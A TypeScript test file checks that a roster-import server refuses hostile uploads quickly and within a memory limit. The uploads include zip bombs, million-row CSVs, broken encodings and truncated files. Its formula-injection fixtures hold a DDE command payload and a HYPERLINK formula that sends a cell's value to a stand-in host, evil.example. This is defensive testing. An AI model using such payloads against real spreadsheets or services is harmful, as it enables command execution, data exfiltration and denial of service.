/**
 * Hostile roster files uploaded to a real server process (POST /api/imports, multipart): zip bombs (honest and
 * lying), CSVs of a million rows over and under the 50 MB upload limit, a cell at row 1,048,576, formula cells,
 * GBK / UTF-16 / mixed encodings, empty and truncated files. Each must be refused — 4xx at upload, or the job
 * ends `failed` with a Chinese message, or (formula cells) the row is refused into the error file — within
 * 5 s of the upload, and the server's peak RSS (VmHWM) stays under 512 MB. The cell at row 1,048,576 is the
 * exception: a sheet's empty rows count for nothing, so that file is two rows, read as two — not a million.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { once } from 'node:events';
import iconv from 'iconv-lite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  bombSheet,
  buildZip,
  deflatedEntry,
  GOOD_ROW,
  HEADER,
  inlineRow,
  sheetXml,
  workbookAround,
} from '../src/server/modules/rosters/roster.test-support.js';
import type { ImportJob } from '../src/common/imports.js';
import { recordFigure } from './summary.js';
import { fixtures, loginOver, peakRssMb, startServer, type ServerProcess } from './support.js';

const REFUSE_WITHIN_MS = 5_000;
const PEAK_RSS_LIMIT_MB = 512;

let server: ServerProcess;
let cookie: string;
let unionId: number;
let work: string;

async function api<T>(method: string, url: string, body?: object): Promise<T> {
  const response = await fetch(`${server.base}${url}`, {
    method,
    headers: { cookie, ...(body ? { 'content-type': 'application/json' } : {}) },
    ...(body ? { body: JSON.stringify(body) } : {}),
  });
  if (response.status >= 300) throw new Error(`${method} ${url}: ${response.status} ${await response.text()}`);
  return (await response.json()) as T;
}

beforeAll(async () => {
  work = fs.mkdtempSync(path.join(os.tmpdir(), 'gonghui-hostile-'));
  fs.mkdirSync(path.join(work, 'data'));
  server = await startServer(path.join(work, 'data'), { LOG_LEVEL: 'warn' });
  cookie = await loginOver(server.base);
  const district = await api<{ id: number }>('POST', '/api/orgs', { parentId: 1, kind: 'district_federation', name: '恶意文件区总工会' });
  const street = await api<{ id: number }>('POST', '/api/orgs', { parentId: district.id, kind: 'street_federation', name: '恶意文件街道' });
  unionId = (await api<{ id: number }>('POST', '/api/orgs', { parentId: street.id, kind: 'grassroots_union', name: '恶意文件工会' })).id;
  // Restart, so the peak measured is the serving process's, not the first start's database creation (~900 MB).
  await server.stop();
  server = await startServer(path.join(work, 'data'), { LOG_LEVEL: 'warn' });
  cookie = await loginOver(server.base);
}, 180_000);
afterAll(async () => {
  await server?.stop();
  if (work) fs.rmSync(work, { recursive: true, force: true });
});

/** Writes a CSV of `rows` copies of `row` after the header, streaming, and returns its path. */
async function csvFile(name: string, rows: number, row: string): Promise<string> {
  const file = path.join(work, name);
  const out = fs.createWriteStream(file);
  out.write(`\uFEFF${HEADER.join(',')}\n`);
  const block = `${row}\n`.repeat(10_000);
  for (let i = 0; i < rows; i += 10_000) if (!out.write(block)) await once(out, 'drain');
  out.end();
  await once(out, 'finish');
  return file;
}

function bytesFile(name: string, bytes: Buffer | string): string {
  const file = path.join(work, name);
  fs.writeFileSync(file, bytes);
  return file;
}

/** `refused`, or what a file that is a roster after all must come to. */
type Expected = 'refused' | { rowsRead: number; imported: number; rejected: number };
type Outcome = { name: string; refused: boolean; seconds: number; how: string; job?: ImportJob; peakMb?: number };

async function upload(name: string, file: string): Promise<Outcome> {
  const started = Date.now();
  const form = new FormData();
  form.append('file', await fs.openAsBlob(file), name);
  let response: Response;
  try {
    response = await fetch(`${server.base}/api/imports?orgId=${unionId}`, { method: 'POST', headers: { cookie }, body: form });
  } catch (error) {
    // The server may close the connection on an oversized upload: that is a refusal at upload too.
    return { name, refused: true, seconds: (Date.now() - started) / 1000, how: `connection closed (${String(error).slice(0, 60)})` };
  }
  const text = await response.text();
  if (response.status >= 400 && response.status < 500) {
    const body = JSON.parse(text) as { code: string; message: string };
    return {
      name,
      refused: /[\u4e00-\u9fff]/.test(body.message),
      seconds: (Date.now() - started) / 1000,
      how: `${response.status} ${body.code}: ${body.message}`,
    };
  }
  if (response.status !== 202)
    return { name, refused: false, seconds: (Date.now() - started) / 1000, how: `${response.status} ${text.slice(0, 200)}` };
  let job = JSON.parse(text) as ImportJob;
  while (job.status !== 'done' && job.status !== 'failed' && Date.now() - started < 60_000) {
    await new Promise((r) => setTimeout(r, 50));
    job = await api<ImportJob>('GET', `/api/imports/${job.id}`);
  }
  const seconds = (Date.now() - started) / 1000;
  if (job.status === 'failed') return { name, refused: /[\u4e00-\u9fff]/.test(job.failure ?? ''), seconds, how: `failed: ${job.failure}` };
  // A well-formed file with a formula in a cell: the row must not be imported as data.
  return {
    name,
    refused: job.status === 'done' && job.imported === 0 && job.rejected > 0,
    seconds,
    how: `${job.status} read ${job.rowsRead} imported ${job.imported} rejected ${job.rejected}`,
    job,
  };
}

function isAsExpected(outcome: Outcome, expected: Expected): boolean {
  if (expected === 'refused') return outcome.refused;
  const job = outcome.job;
  return (
    job?.status === 'done' && job.rowsRead === expected.rowsRead && job.imported === expected.imported && job.rejected === expected.rejected
  );
}

describe('hostile roster files', () => {
  it('refuses every hostile file within 5 s of the upload, in bounded memory', async () => {
    const bomb = await bombSheet(300 * 1024 * 1024, 256 * 1024);
    const liarSheet = await bombSheet(200 * 1024 * 1024, 256 * 1024);
    const clean = fs.readFileSync(path.join(fixtures, 'roster-clean.xlsx'));
    const csvHeader = `${HEADER.join(',')}\r\n`;
    const files: [string, () => Promise<string> | string, Expected?][] = [
      ['zip-bomb-300MB.xlsx', () => bytesFile('bomb.xlsx', buildZip(workbookAround(bomb)))],
      [
        'zip-bomb-liar.xlsx',
        () => bytesFile('liar.xlsx', buildZip(workbookAround({ ...liarSheet, uncompressedSize: liarSheet.data.length * 10 }))),
      ],
      ['million-rows-100MB.csv', () => csvFile('big.csv', 1_100_000, GOOD_ROW.join(','))],
      ['million-tiny-rows.csv', () => csvFile('tiny.csv', 1_100_000, '1')],
      [
        'row-1048576.xlsx',
        () =>
          bytesFile(
            'far.xlsx',
            buildZip(
              workbookAround(
                deflatedEntry(
                  'xl/worksheets/sheet1.xml',
                  sheetXml(inlineRow(1, HEADER) + inlineRow(2, GOOD_ROW) + inlineRow(1048576, GOOD_ROW)),
                ),
              ),
            ),
          ),
        // Row 2 is imported; the far row is the same person again, rejected as a repeated ID number.
        { rowsRead: 2, imported: 1, rejected: 1 },
      ],
      [
        'formula-cells.xlsx',
        () =>
          bytesFile(
            'formula.xlsx',
            buildZip(
              workbookAround(
                deflatedEntry(
                  'xl/worksheets/sheet1.xml',
                  sheetXml(
                    inlineRow(1, HEADER) +
                      `<row r="2"><c r="A2"><f>cmd|' /C calc'!A0</f><v>张三</v></c><c r="B2" t="inlineStr"><is><t>${GOOD_ROW[1]}</t></is></c><c r="C2"><f>HYPERLINK("http://evil.example/?x="&amp;B2,"13812345678")</f><v>13812345678</v></c></row>`,
                  ),
                ),
              ),
            ),
          ),
      ],
      [
        'formula-cells.csv',
        () =>
          bytesFile(
            'formula.csv',
            `${csvHeader}=cmd|' /C calc'!A0,${GOOD_ROW[1]},=HYPERLINK("http://evil.example","x"),女,全日制,@SUM(A1),2020-05-01\r\n`,
          ),
      ],
      [
        'mixed-utf8-gbk.csv',
        () => bytesFile('mixed.csv', Buffer.concat([Buffer.from(csvHeader, 'utf8'), iconv.encode(`${GOOD_ROW.join(',')}\r\n`, 'gbk')])),
      ],
      [
        'utf16-with-gbk-tail.csv',
        () =>
          bytesFile(
            'utf16.csv',
            Buffer.concat([iconv.encode(`\uFEFF${csvHeader}`, 'utf16le'), iconv.encode(`${GOOD_ROW.join(',')}\r\n`, 'gbk')]),
          ),
      ],
      ['empty.xlsx', () => bytesFile('empty.xlsx', Buffer.alloc(0))],
      ['empty.csv', () => bytesFile('empty.csv', Buffer.alloc(0))],
      ['truncated.xlsx', () => bytesFile('truncated.xlsx', clean.subarray(0, Math.floor(clean.length / 2)))],
      ['truncated-zip-header.xlsx', () => bytesFile('header.xlsx', clean.subarray(0, 30))],
      ['not-a-roster.exe', () => bytesFile('x.exe', Buffer.from('MZ\u0090\u0000'))],
    ];
    const outcomes: (Outcome & { isAsExpected: boolean })[] = [];
    const startPeak = peakRssMb(server.child.pid!);
    fs.writeFileSync(`/proc/${server.child.pid!}/clear_refs`, '5');
    await new Promise((r) => setTimeout(r, 500));
    const idle = peakRssMb(server.child.pid!);
    console.log(`server peak RSS during restart: ${startPeak} MB, idle: ${idle} MB`);
    for (const [name, make, expected = 'refused'] of files) {
      const file = await make();
      // Reset the peak (VmHWM) so each file's own peak is seen; the overall peak is the largest of them.
      fs.writeFileSync(`/proc/${server.child.pid!}/clear_refs`, '5');
      const outcome = await upload(name, file);
      await new Promise((r) => setTimeout(r, 200));
      outcomes.push({ ...outcome, isAsExpected: isAsExpected(outcome, expected), peakMb: peakRssMb(server.child.pid!) });
      fs.rmSync(file, { force: true });
    }
    const peak = Math.max(startPeak, ...outcomes.map((o) => o.peakMb ?? 0));
    for (const o of outcomes) {
      const label = o.isAsExpected ? (o.refused ? 'refused' : 'read') : o.refused ? 'WRONGLY REFUSED' : 'ACCEPTED';
      console.log(`${label} ${o.name} in ${o.seconds.toFixed(2)} s, peak RSS ${o.peakMb} MB — ${o.how}`);
    }
    const refused = outcomes.filter((o) => o.isAsExpected && o.refused).length;
    const read = outcomes.filter((o) => o.isAsExpected && !o.refused).length;
    const slowest = Math.max(...outcomes.map((o) => o.seconds));
    const worst = outcomes.reduce((a, b) => ((b.peakMb ?? 0) > (a.peakMb ?? 0) ? b : a));
    const growth = (worst.peakMb ?? 0) - idle;
    recordFigure(
      'hostile files',
      `${refused + read}/${outcomes.length} as required (${refused} refused, ${read} read as the roster it is), slowest ${slowest.toFixed(2)} s, peak RSS ${peak} MB (server VmHWM; idle ${idle} MB, restart ${startPeak} MB, most growth over idle ${growth} MB by ${worst.name})`,
      import.meta.filename,
    );
    expect(outcomes.filter((o) => !o.isAsExpected)).toEqual([]);
    expect(outcomes.filter((o) => o.seconds * 1000 > REFUSE_WITHIN_MS)).toEqual([]);
    // Was 694-745 MB: PGlite's 128 MB of shared buffers (idle ~445 MB), csv-parse parsing 128K tiny rows ahead
    // (+255 MB) and a lying zip bomb half imported before its refusal (+126-215 MB).
    expect(peak, `peak RSS: idle ${idle} MB + ${growth} MB by ${worst.name}`).toBeLessThan(PEAK_RSS_LIMIT_MB);
    // The server is still healthy afterwards.
    expect((await fetch(`${server.base}/api/health`)).status).toBe(200);
  });
});
